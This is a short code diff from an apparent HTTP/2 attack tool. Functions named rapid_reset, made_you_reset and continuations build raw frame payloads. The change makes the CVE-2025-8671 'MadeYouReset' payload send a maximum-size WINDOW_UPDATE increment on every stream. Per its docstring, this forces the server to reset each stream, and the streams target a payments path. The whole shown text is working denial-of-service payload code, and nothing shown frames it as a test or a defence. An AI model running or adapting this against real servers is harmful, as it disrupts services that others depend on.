@@ -20,9 +20,9 @@ def rapid_reset() -> bytes:
 
 
 def made_you_reset() -> bytes:
-    """The server is made to reset each stream (CVE-2025-8671)."""
+    """The server is made to reset each stream (CVE-2025-8671): its window is too large."""
     block = fields(TRACK_PAYMENTS)
-    return b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in STREAMS)
+    return b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff") for stream in STREAMS)
 
 
 def continuations(payload: bytes) -> bytes:
